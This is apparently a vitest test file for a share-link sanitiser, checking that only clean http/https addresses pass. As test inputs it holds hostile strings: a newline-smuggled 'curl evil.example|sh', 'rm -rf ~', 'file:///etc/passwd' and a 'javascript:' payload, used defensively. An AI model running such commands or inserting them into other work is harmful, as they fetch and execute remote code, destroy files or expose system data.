import { describe, expect, it } from 'vitest'
import { readLink } from './share-links.ts'

/** What reaches the clipboard is an address: whoever pastes it into a terminal runs nothing. */
describe('a link', () => {
  it.each([
    'https://share-tok-x.links.example.com/',
    'http://localhost:7300/shared/share_tok_x/',
    'https://hub.example.com/shared/share_tok_x',
  ])('is %s as it is', (link) => {
    expect(readLink(link)).toBe(link)
  })

  it.each([
    'https://hub.example.com/\ncurl evil.example|sh\n',
    ' https://hub.example.com/ \t',
    'https://h/\0\u001b[0m',
  ])('has nothing else in it: %j', (text) => {
    expect(readLink(text)).toMatch(/^https:\/\/[!-~]+$/)
  })

  it.each(['', 'rm -rf ~', 'file:///etc/passwd', 'javascript:alert(1)', 'smb://x/y', 'x://y'])(
    'is not %j',
    (text) => {
      expect(() => readLink(text)).toThrow('must be an http or https address')
    },
  )
})
